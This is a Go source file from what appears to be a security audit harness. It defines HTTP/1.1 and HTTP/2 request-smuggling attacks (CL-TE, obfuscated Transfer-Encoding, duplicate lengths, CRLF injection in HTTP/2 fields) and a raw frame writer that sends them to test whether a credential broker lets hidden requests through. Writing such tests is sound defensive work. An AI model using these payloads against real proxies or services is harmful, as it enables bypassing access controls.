package keys

import (
	"encoding/binary"
	"io"
	"strings"

	"github.com/jailed-claude/jailed-claude/runtime/audit/attack"
)

// smuggling hides a request in another one: what the broker takes for one request
// is two for the service behind it, or the other way round.
func smuggling() []attack.Attack {
	const success = "a request that the broker did not judge comes to the service"
	var all []attack.Attack
	add := func(name, source string, send func(e *attack.Env, s service) ([]byte, error)) {
		all = append(all, attack.Attack{Name: name, Source: source, Success: success, Judge: arrives(name), Run: at(plain, func(e *attack.Env, s service) attack.Result {
			return answered(send(e, s))
		})})
	}
	for _, c := range smuggled1 {
		name := "smuggle-" + c.name
		add(name, c.source, func(_ *attack.Env, s service) ([]byte, error) {
			// Whoever takes it for a request ends the connection after it.
			inner := s.request("GET", hidden(name), "")
			return exchange(s.host, strings.NewReplacer("{host}", s.host, "{bearer}\r\n", s.bearer(), "{inner}", inner, "{hidden}", hidden(name)).Replace(c.text))
		})
	}
	for _, c := range smuggled2 {
		name := "smuggle-http2-" + c.name
		add(name, "RFC 9113, 8; James Kettle, HTTP/2: The Sequel is Always Worse (2021)", func(e *attack.Env, s service) ([]byte, error) {
			inner := s.request("GET", hidden(name), "")
			var fields []field
			put := strings.NewReplacer("{inner}", inner, "{hidden}", hidden(name), "{other}", e.Keys.Login)
			for _, f := range c.fields {
				fields = append(fields, field{put.Replace(f.name), put.Replace(f.value)})
			}
			return exchange2(s, append(fields, field{bodyField, put.Replace(c.body)})...)
		})
	}
	return all
}

// smuggled1 are in HTTP/1.1. {inner} is the hidden request.
var smuggled1 = []struct{ name, source, text string }{
	{"cl-te", "RFC 9112, 6.1", "POST /allowed/x HTTP/1.1\r\nHost: {host}\r\n{bearer}\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{inner}"},
	{"te-obfuscated", "CVE-2019-16276", "POST /allowed/x HTTP/1.1\r\nHost: {host}\r\n{bearer}\r\nContent-Length: 5\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n{inner}"},
	{"te-identity", "RFC 7230, 3.3.1", "POST /allowed/x HTTP/1.1\r\nHost: {host}\r\n{bearer}\r\nTransfer-Encoding: identity, chunked\r\n\r\n0\r\n\r\n{inner}"},
	{"te-twice", "RFC 9112, 6.1", "POST /allowed/x HTTP/1.1\r\nHost: {host}\r\n{bearer}\r\nTransfer-Encoding: x\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{inner}"},
	{"two-lengths", "RFC 9112, 6.3", "POST /allowed/x HTTP/1.1\r\nHost: {host}\r\n{bearer}\r\nContent-Length: 0\r\nContent-Length: 5\r\n\r\n{inner}"},
	{"signed-length", "CVE-2021-31525's kin", "POST /allowed/x HTTP/1.1\r\nHost: {host}\r\n{bearer}\r\nContent-Length: +0\r\n\r\n{inner}"},
	{"length-of-get", "RFC 9110, 9.3.1", "GET /allowed/x HTTP/1.1\r\nHost: {host}\r\n{bearer}\r\nContent-Length: 0\r\n\r\n{inner}"},
	{"pipelined", "RFC 9112, 9.3.2", "GET /allowed/x HTTP/1.1\r\nHost: {host}\r\n{bearer}\r\n\r\n{inner}"},
	{"bare-line-feed", "RFC 9112, 2.2", "GET /allowed/x HTTP/1.1\nHost: {host}\n{bearer}\r\nX-A: b\n\n{inner}"},
	{"bare-carriage-return", "RFC 9112, 2.2", "GET /allowed/x HTTP/1.1\r\nHost: {host}\r\n{bearer}\r\nX-A: b\r\r{inner}\r\n"},
	{"folded-line", "RFC 9112, 5.2", "GET /allowed/x HTTP/1.1\r\nHost: {host}\r\n{bearer}\r\nX-A: b\r\n Transfer-Encoding: chunked\r\n\r\n{inner}"},
	{"space-in-target", "RFC 9112, 3.2", "GET /allowed/x HTTP/1.1\tGET {hidden} HTTP/1.1\r\nHost: {host}\r\n{bearer}\r\n\r\n{inner}"},
	{"version-0-9", "RFC 1945, 4", "GET {hidden}\r\n"},
	{"version-1-0", "RFC 9112, 9.3: Connection: keep-alive", "GET /allowed/x HTTP/1.0\r\nHost: {host}\r\n{bearer}\r\nConnection: keep-alive\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{inner}"},
	{"chunk-extension", "CVE-2025-55315", "POST /allowed/x HTTP/1.1\r\nHost: {host}\r\n{bearer}\r\nTransfer-Encoding: chunked\r\n\r\n2;\nxx\r\n0\r\n\r\n{inner}"},
	{"chunk-length", "CVE-2015-3183's kin", "POST /allowed/x HTTP/1.1\r\nHost: {host}\r\n{bearer}\r\nTransfer-Encoding: chunked\r\n\r\n-1\r\n{inner}0\r\n\r\n"},
	{"trailer", "RFC 9110, 6.5.1", "POST /allowed/x HTTP/1.1\r\nHost: {host}\r\n{bearer}\r\nTransfer-Encoding: chunked\r\nTrailer: Content-Length\r\n\r\n0\r\nContent-Length: 500\r\n\r\n{inner}"},
	{"named-by-connection", "RFC 9110, 7.6.1: a header that goes missing on the way", "POST /allowed/x HTTP/1.1\r\nHost: {host}\r\n{bearer}\r\nConnection: Content-Length\r\nContent-Length: 0\r\n\r\n{inner}"},
	{"expect", "RFC 9110, 10.1.1", "GET /allowed/x HTTP/1.1\r\nHost: {host}\r\n{bearer}\r\nExpect: 100-continue\r\nContent-Length: 4\r\n\r\n{inner}"},
}

// smuggled2 are in HTTP/2. Fields are in the place of the usual ones, or besides.
var smuggled2 = []struct {
	name   string
	fields []field
	body   string
}{
	{"length", []field{{"content-length", "0"}}, "{inner}"},
	{"two-lengths", []field{{"content-length", "0"}, {"content-length", "5"}}, "{inner}"},
	{"chunked", []field{{"transfer-encoding", "chunked"}}, "0\r\n\r\n{inner}"},
	{"line-end-in-value", []field{{"x-a", "b\r\n\r\n{inner}"}}, ""},
	{"line-end-in-name", []field{{"x-a: b\r\n\r\n{inner}x", "c"}}, ""},
	{"line-end-in-path", []field{{":path", "/allowed/x HTTP/1.1\r\nHost: x\r\n\r\n{inner}"}}, ""},
	{"line-end-in-method", []field{{":method", "GET {hidden} HTTP/1.1\r\nHost: x\r\n\r\nGET"}}, ""},
	{"line-end-in-host", []field{{":authority", "x\r\n\r\n{inner}"}}, ""},
	{"two-paths", []field{{":path", "/allowed/x"}, {":path", "{hidden}"}}, ""},
	{"space-in-path", []field{{":path", "/allowed/../hidden/smuggle-http2-space-in-path HTTP/1.1"}}, ""},
	{"whole-url", []field{{":path", "https://x{hidden}"}}, ""},
	{"other-host", []field{{":authority", "{other}"}, {":path", "{hidden}"}}, ""},
	{"host-beside", []field{{"host", "{other}"}, {":path", "{hidden}"}}, ""},
	{"connect", []field{{":method", "CONNECT"}, {":protocol", "websocket"}, {":path", "{hidden}"}}, ""},
	{"plain-path", []field{{":path", "{hidden}"}}, ""},
}

// field of a header. bodyField is none: its value is what follows the header.
type field struct{ name, value string }

const bodyField = "(body)"

// block is a header without compression (RFC 7541, 6.2.2): no library writes what
// these attacks do.
func block(fields []field) (b []byte) {
	text := func(s string) {
		if len(s) < 127 {
			b = append(b, byte(len(s)))
		} else {
			b = append(b, 127)
			n := len(s) - 127
			for ; n >= 128; n /= 128 {
				b = append(b, byte(n%128+128))
			}
			b = append(b, byte(n))
		}
		b = append(b, s...)
	}
	for _, f := range fields {
		b = append(b, 0)
		text(f.name)
		text(f.value)
	}
	return b
}

// Frames of HTTP/2 (RFC 9113, 6).
const (
	preface      = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
	frameData    = 0
	frameHeaders = 1
	frameReset   = 3
	frameSetting = 4
	frameGoAway  = 7
	endStream    = 1
	endHeaders   = 4
)

func frame(kind, flags byte, stream uint32, payload []byte) []byte {
	f := binary.BigEndian.AppendUint32(nil, uint32(len(payload)))[1:]
	f = append(f, kind, flags)
	return append(binary.BigEndian.AppendUint32(f, stream), payload...)
}

// exchange2 sends one request of HTTP/2, and returns what comes back for it.
func exchange2(s service, fields ...field) (answer []byte, err error) {
	usual := []field{{":method", "POST"}, {":scheme", "https"}, {":path", "/allowed/x"}, {":authority", s.host}}
	body := ""
	var more []field
	for _, f := range fields {
		if f.name == bodyField {
			body = f.value
			continue
		}
		more = append(more, f)
		for i, u := range usual {
			if u.name == f.name {
				usual = append(usual[:i:i], usual[i+1:]...)
				break
			}
		}
	}
	// Those with a colon come first.
	var all, plain []field
	for _, f := range append(usual, more...) {
		if strings.HasPrefix(f.name, ":") {
			all = append(all, f)
		} else {
			plain = append(plain, f)
		}
	}
	all = append(append(all, plain...), field{"authorization", "Bearer " + s.placeholder()})
	c, err := secured(s.host, s.host, "h2")
	if err != nil {
		return nil, err
	}
	defer c.Close()
	text := append([]byte(preface), frame(frameSetting, 0, 0, nil)...)
	flags := byte(endHeaders)
	if body == "" {
		flags |= endStream
	}
	text = append(text, frame(frameHeaders, flags, 1, block(all))...)
	if body != "" {
		text = append(text, frame(frameData, endStream, 1, []byte(body))...)
	}
	if _, err := c.Write(text); err != nil {
		return nil, err
	}
	for len(answer) < attack.Limit {
		head := make([]byte, 9)
		if _, err := io.ReadFull(c, head); err != nil {
			return answer, err
		}
		payload := make([]byte, binary.BigEndian.Uint32(append([]byte{0}, head[:3]...)))
		if _, err := io.ReadFull(c, payload); err != nil {
			return answer, err
		}
		kind, ends := head[3], head[4]&endStream != 0
		if kind == frameReset || kind == frameGoAway {
			return answer, errReset
		}
		if kind == frameData || kind == frameHeaders {
			if answer = append(answer, payload...); ends {
				return answer, nil
			}
		}
	}
	return answer, nil
}
